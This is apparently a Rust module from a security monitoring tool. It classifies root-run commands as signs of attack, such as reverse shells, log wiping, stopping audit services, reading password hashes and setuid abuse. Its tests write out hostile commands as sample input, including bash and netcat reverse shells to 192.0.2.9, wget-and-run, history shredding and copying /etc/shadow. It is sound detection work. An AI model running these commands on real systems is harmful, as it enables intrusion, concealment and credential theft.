//! What a command with root's rights does, where its words say something by themselves.
//!
//! An attack and an administrator use the same words: what is told is what was done, and seldom more than suspicion.

use super::command::{SHELLS, fetches_and_runs, is_in_open_folder, name, steps};
use super::wording::holds;

/// What a command does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum RootCommand {
    /// It gives a shell to somebody over the net.
    ShellGiven,
    /// It takes a system's logs away.
    LogsRemoved,
    /// It takes a shell's history away.
    HistoryRemoved,
    /// It fetches a program over the net and runs it.
    FetchedAndRun,
    /// It stops what watches over the system.
    GuardStopped,
    /// It opens the firewall.
    FirewallOpened,
    /// It reads or copies the passwords' hashes.
    PasswordsRead,
    /// It puts in a key to log in with.
    KeyAdded,
    /// It says who may become root.
    RightsGiven,
    /// It lets everybody run a program with its owner's rights.
    OwnerLent,
    /// It runs a program from a folder in which everybody may write.
    BroughtRun,
}

/// How a command is told.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Telling {
    /// The rule's stable word.
    pub id: &'static str,
    /// Its name for people.
    pub title: &'static str,
    /// 1 to 5.
    pub severity: u8,
    /// The technique's number.
    pub technique: &'static str,
    /// What the command does, and what else it may be.
    pub sentence: &'static str,
    /// What somebody did, after "the user".
    pub did: &'static str,
}

pub(super) const fn telling(
    [id, title, technique]: [&'static str; 3],
    severity: u8,
    [sentence, did]: [&'static str; 2],
) -> Telling {
    Telling { id, title, severity, technique, sentence, did }
}

impl RootCommand {
    /// In the order in which they are looked for: the gravest of what a command does is told.
    pub const ALL: [Self; 11] = [
        Self::ShellGiven,
        Self::LogsRemoved,
        Self::HistoryRemoved,
        Self::FetchedAndRun,
        Self::GuardStopped,
        Self::FirewallOpened,
        Self::PasswordsRead,
        Self::KeyAdded,
        Self::RightsGiven,
        Self::OwnerLent,
        Self::BroughtRun,
    ];

    /// What a command does, where it tells something.
    pub fn of(command: &[u8]) -> Option<Self> {
        let steps = steps(command);
        Self::ALL.into_iter().find(|kind| kind.is(command, &steps))
    }

    /// Whether a command is one that attackers leave to cron, and hardly anybody else.
    pub(super) fn is_of_a_job(command: &[u8]) -> bool {
        matches!(Self::of(command), Some(Self::ShellGiven | Self::FetchedAndRun | Self::BroughtRun))
    }

    fn is(self, command: &[u8], steps: &[Vec<&[u8]>]) -> bool {
        let any = |is: fn(&[u8], &[&[u8]]) -> bool| {
            steps.iter().any(|words| words.split_first().is_some_and(|(program, words)| is(name(program), words)))
        };
        match self {
            Self::ShellGiven => holds(command, b"/dev/tcp/") || holds(command, b"/dev/udp/") || any(gives_shell),
            Self::LogsRemoved => removes(command, steps, b"/var/log/") || any(shortens_journal),
            Self::HistoryRemoved => removes(command, steps, b"_history") || any(forgets_history),
            Self::FetchedAndRun => fetches_and_runs(command),
            Self::GuardStopped => any(stops_guard),
            Self::FirewallOpened => any(opens_firewall),
            Self::PasswordsRead => any(reads_passwords),
            Self::KeyAdded => holds(command, b"authorized_keys") && (command.contains(&b'>') || any(writes)),
            Self::RightsGiven => holds(command, b"/etc/sudoers") && (command.contains(&b'>') || any(writes)),
            Self::OwnerLent => any(lends_owner),
            Self::BroughtRun => steps.iter().any(|words| runs_brought(words)),
        }
    }

    /// How it is told.
    #[inline(never)]
    pub const fn telling(self) -> Telling {
        match self {
            Self::ShellGiven => telling(
                ["shell-given", "Shell over the net", "T1059.004"],
                5,
                ["A command with root's rights gives a shell to another machine.", "gave a shell to another machine"],
            ),
            Self::LogsRemoved => telling(
                ["log-removed", "Logs taken away", "T1070.002"],
                4,
                ["A command with root's rights takes logs away.", "took logs away"],
            ),
            Self::HistoryRemoved => telling(
                ["history-removed", "History taken away", "T1070.003"],
                4,
                ["A command with root's rights takes a shell's history away.", "took a shell's history away"],
            ),
            Self::FetchedAndRun => telling(
                ["fetched-and-run", "Fetched and run", "T1059.004"],
                4,
                [
                    "A command with root's rights fetched a program over the net and ran it. Installers are started so, too.",
                    "ran what was fetched over the net",
                ],
            ),
            Self::GuardStopped => telling(
                ["guard-stopped", "Guard stopped", "T1562.001"],
                4,
                [
                    "A command with root's rights stops what watches over the system. Who maintains it does so, too.",
                    "stopped what watches over the system",
                ],
            ),
            Self::FirewallOpened => telling(
                ["firewall-opened", "Firewall opened", "T1562.004"],
                4,
                [
                    "A command with root's rights opens the firewall. Who maintains it does so, too.",
                    "opened the firewall",
                ],
            ),
            Self::PasswordsRead => telling(
                ["passwords-read", "Hashes of passwords read", "T1003.008"],
                4,
                [
                    "A command with root's rights reads the hashes of all passwords. Backups do so, too.",
                    "read the hashes of all passwords",
                ],
            ),
            Self::KeyAdded => telling(
                ["key-added", "Key put in", "T1098.004"],
                3,
                [
                    "A command with root's rights changes which keys may log in. Setting up a machine does so, too.",
                    "changed which keys may log in",
                ],
            ),
            Self::RightsGiven => telling(
                ["sudoers-changed", "Who may use sudo", "T1548.003"],
                3,
                [
                    "A command with root's rights changes who may become root by sudo, past the tool for it (visudo). Setting up a machine does so, too.",
                    "changed who may become root",
                ],
            ),
            Self::OwnerLent => telling(
                ["owner-lent", "Program with its owner's rights", "T1548.001"],
                4,
                [
                    "A command with root's rights lets everybody run a program with its owner's rights.",
                    "let everybody run a program with its owner's rights",
                ],
            ),
            Self::BroughtRun => telling(
                ["brought-run", "Run from a folder of everybody's", "T1059.004"],
                2,
                [
                    "A command with root's rights runs a program from a folder in which everybody may write. Installers do so, too.",
                    "ran a program from a folder in which everybody may write",
                ],
            ),
        }
    }
}

/// Services that watch over a system or write down what happens.
const GUARDS: &[&[u8]] = &[
    b"auditd",
    b"rsyslog",
    b"syslog",
    b"syslog-ng",
    b"systemd-journald",
    b"fail2ban",
    b"crowdsec",
    b"sshguard",
    b"apparmor",
    b"clamav-daemon",
    b"clamd",
    b"falcon-sensor",
    b"wazuh-agent",
    b"ossec",
    b"osqueryd",
    b"falco",
    b"auditbeat",
    b"filebeat",
    b"aide",
    b"tripwire",
    b"snort",
    b"suricata",
    b"mdatp",
];

const FIREWALLS: &[&[u8]] = &[b"firewalld", b"ufw", b"iptables", b"ip6tables", b"nftables"];

/// Whether a service of this list is stopped or kept from starting.
fn stops(program: &[u8], words: &[&[u8]], services: &[&[u8]]) -> bool {
    let named = words.iter().any(|word| services.contains(&word.strip_suffix(b".service").unwrap_or(word)));
    match program {
        b"systemctl" | b"service" | b"rc-service" | b"chkconfig" | b"update-rc.d" | b"initctl" => {
            named
                && words
                    .iter()
                    .any(|word| [&b"stop"[..], b"disable", b"mask", b"kill", b"off", b"remove"].contains(word))
        }
        b"killall" | b"pkill" => named,
        _ => false,
    }
}

fn stops_guard(program: &[u8], words: &[&[u8]]) -> bool {
    let pair = |one: &[u8], other: &[u8]| words.windows(2).any(|pair| pair == [one, other]);
    stops(program, words, GUARDS)
        || program == b"setenforce" && matches!(words, [b"0" | b"Permissive" | b"permissive", ..])
        || program == b"auditctl" && (pair(b"-e", b"0") || words.contains(&b"-D".as_slice()))
        || matches!(program, b"aa-teardown" | b"aa-disable")
}

fn opens_firewall(program: &[u8], words: &[&[u8]]) -> bool {
    let has = |word: &[u8]| words.contains(&word);
    stops(program, words, FIREWALLS)
        || program == b"ufw" && (has(b"disable") || has(b"reset"))
        || matches!(program, b"iptables" | b"ip6tables") && (has(b"-F") || has(b"--flush"))
        || program == b"nft" && has(b"flush") && has(b"ruleset")
}

/// `nc -e /bin/sh`, `socat … EXEC:/bin/sh`.
fn gives_shell(program: &[u8], words: &[&[u8]]) -> bool {
    let is_shell = |word: &&[u8]| SHELLS.contains(&name(word));
    match program {
        b"nc" | b"ncat" | b"netcat" | b"nc.traditional" | b"nc.openbsd" => {
            let runs = |word: &&[u8]| {
                matches!(*word, b"--exec" | b"--sh-exec")
                    || word.starts_with(b"-")
                        && !word.starts_with(b"--")
                        && word.last().is_some_and(|last| b"ec".contains(last))
            };
            words.iter().any(runs) && words.iter().any(is_shell)
        }
        b"socat" => words.iter().any(|word| {
            let small = word.to_ascii_lowercase();
            holds(&small, b"exec:") && SHELLS.iter().any(|shell| holds(&small, shell))
        }),
        _ => false,
    }
}

/// Whether a command takes away what has this in its name.
fn removes(command: &[u8], steps: &[Vec<&[u8]>], what: &[u8]) -> bool {
    const TOOLS: &[&[u8]] = &[b"rm", b"shred", b"truncate", b"unlink", b"wipe", b"srm", b"dd"];
    let takes = |words: &Vec<&[u8]>| {
        words.split_first().is_some_and(|(program, rest)| {
            let program = name(program);
            let empties = matches!(program, b"cp" | b"ln" | b"cat") && rest.contains(&b"/dev/null".as_slice());
            rest.iter().any(|word| holds(word, what)) && (TOOLS.contains(&program) || empties)
        })
    };
    steps.iter().any(takes) || overwrites(command, what)
}

/// Whether the command's output goes over a file of this name, and does not only follow what stands there.
fn overwrites(command: &[u8], what: &[u8]) -> bool {
    memchr::memchr_iter(b'>', command).any(|at| {
        let follows = command.get(at + 1) == Some(&b'>') || at > 0 && command[at - 1] == b'>';
        let target = command[at + 1..].trim_ascii_start();
        let end = target.iter().position(|byte| b" ;|&\"'".contains(byte)).unwrap_or(target.len());
        !follows && holds(&target[..end], what)
    })
}

fn shortens_journal(program: &[u8], words: &[&[u8]]) -> bool {
    program == b"journalctl" && words.iter().any(|word| word.starts_with(b"--vacuum-"))
}

fn forgets_history(program: &[u8], words: &[&[u8]]) -> bool {
    program == b"history" && words.contains(&b"-c".as_slice())
}

fn reads_passwords(program: &[u8], words: &[&[u8]]) -> bool {
    // What looks at the file's name and rights only, and what keeps the file itself.
    const OTHERS: &[&[u8]] = &[
        b"chmod",
        b"chown",
        b"chgrp",
        b"ls",
        b"stat",
        b"pwck",
        b"vipw",
        b"restorecon",
        b"chcon",
        b"lsattr",
        b"chattr",
        b"test",
        b"[",
        b"touch",
        b"getfacl",
        b"md5sum",
        b"sha256sum",
        b"auditctl",
    ];
    const FILES: &[&[u8]] = &[b"/etc/shadow", b"/etc/shadow-", b"/etc/gshadow"];
    let named = words.iter().any(|word| FILES.contains(word));
    named && !OTHERS.contains(&program)
        || program == b"unshadow"
        || program == b"getent" && words.contains(&b"shadow".as_slice())
}

/// Programs that write to a file that they are given.
fn writes(program: &[u8], words: &[&[u8]]) -> bool {
    const WRITERS: &[&[u8]] = &[b"tee", b"cp", b"mv", b"install", b"ln", b"vi", b"vim", b"nano", b"emacs"];
    WRITERS.contains(&program) || program == b"sed" && words.iter().any(|word| word.starts_with(b"-i"))
}

/// `chmod u+s`, `chmod 4755`.
fn lends_owner(program: &[u8], words: &[&[u8]]) -> bool {
    let is_mode = |word: &&[u8]| {
        let octal = word.len() >= 4 && word.iter().all(|byte| (b'0'..=b'7').contains(byte));
        octal && b"4567".contains(&word[word.len() - 4])
            || matches!(*word, b"u+s" | b"+s" | b"ug+s" | b"a+s" | b"u+xs" | b"u+sx")
    };
    program == b"chmod" && words.iter().any(is_mode)
}

/// Whether a step runs a program from a folder of everybody's.
fn runs_brought(words: &[&[u8]]) -> bool {
    let Some((program, rest)) = words.split_first() else { return false };
    let given = rest.iter().find(|word| !word.starts_with(b"-")).filter(|_| SHELLS.contains(&name(program)));
    // What Ansible puts there.
    let is_open = |path: &[u8]| is_in_open_folder(path) && !holds(path, b"/ansible-tmp-");
    is_open(program) || given.is_some_and(|path| is_open(path))
}

#[cfg(test)]
mod tests {
    use super::RootCommand::*;
    use super::*;

    #[test]
    fn ok_what_commands_do() {
        for (command, does) in [
            ("/bin/rm -f /var/log/auth.log", Some(LogsRemoved)),
            ("/usr/bin/truncate -s 0 /var/log/syslog", Some(LogsRemoved)),
            ("/bin/sh -c echo > /var/log/wtmp", Some(LogsRemoved)),
            ("/bin/cp /dev/null /var/log/lastlog", Some(LogsRemoved)),
            ("/usr/bin/journalctl --vacuum-time=1s", Some(LogsRemoved)),
            ("/usr/bin/shred -u /root/.bash_history", Some(HistoryRemoved)),
            ("/bin/ln -sf /dev/null /home/bob/.zsh_history", Some(HistoryRemoved)),
            ("/bin/sh -c wget http://192.0.2.9/x -O /tmp/x; sh /tmp/x", Some(FetchedAndRun)),
            ("/usr/bin/bash -c bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", Some(ShellGiven)),
            ("/usr/bin/nc 192.0.2.9 4444 -e /bin/bash", Some(ShellGiven)),
            ("/usr/bin/socat TCP:192.0.2.9:4444 EXEC:/bin/sh", Some(ShellGiven)),
            ("/usr/bin/systemctl stop auditd.service", Some(GuardStopped)),
            ("/usr/bin/systemctl disable --now fail2ban", Some(GuardStopped)),
            ("/usr/sbin/service rsyslog stop", Some(GuardStopped)),
            ("/usr/sbin/setenforce 0", Some(GuardStopped)),
            ("/usr/sbin/auditctl -e 0", Some(GuardStopped)),
            ("/usr/sbin/iptables -F", Some(FirewallOpened)),
            ("/usr/sbin/ufw disable", Some(FirewallOpened)),
            ("/usr/bin/systemctl stop firewalld", Some(FirewallOpened)),
            ("/bin/cat /etc/shadow", Some(PasswordsRead)),
            ("/bin/cp /etc/shadow /tmp/s", Some(PasswordsRead)),
            ("/usr/bin/tee -a /root/.ssh/authorized_keys", Some(KeyAdded)),
            ("/bin/sh -c echo ssh-rsa AAAA >> /home/bob/.ssh/authorized_keys", Some(KeyAdded)),
            ("/bin/chmod u+s /bin/bash", Some(OwnerLent)),
            ("/bin/chmod 4755 /tmp/x", Some(OwnerLent)),
            ("/bin/bash /tmp/a.sh", Some(BroughtRun)),
            ("/dev/shm/x --run", Some(BroughtRun)),
        ] {
            assert_eq!(RootCommand::of(command.as_bytes()), does, "{command}");
        }
    }

    #[test]
    fn err_near_misses() {
        for command in [
            "/bin/cat /var/log/auth.log",
            "/bin/rm -rf /tmp/x",
            "/usr/bin/tail /var/log/form ",
            "/bin/sh -c echo done >> /var/log/backup.log",
            "/usr/bin/systemctl restart auditd",
            "/usr/bin/systemctl status fail2ban",
            "/usr/bin/systemctl stop nginx",
            "/usr/sbin/iptables -L -n",
            "/bin/ls -l /etc/shadow",
            "/bin/chmod 640 /etc/shadow",
            "/bin/chmod 0755 /usr/local/bin/a",
            "/bin/cat /root/.ssh/authorized_keys",
            "/usr/bin/nc -zv 192.0.2.9 22",
            "/bin/sh -c /usr/bin/python3 /var/tmp/ansible-tmp-1.2/AnsiballZ_setup.py",
            "/usr/bin/vim /tmp/notes",
            "/usr/bin/apt install auditd",
            "",
        ] {
            assert_eq!(RootCommand::of(command.as_bytes()), None, "{command}");
        }
    }

    #[test]
    fn ok_every_telling_has_a_technique() {
        for kind in RootCommand::ALL {
            assert!(super::super::super::attack::technique(kind.telling().technique).is_some(), "{kind:?}");
        }
    }
}
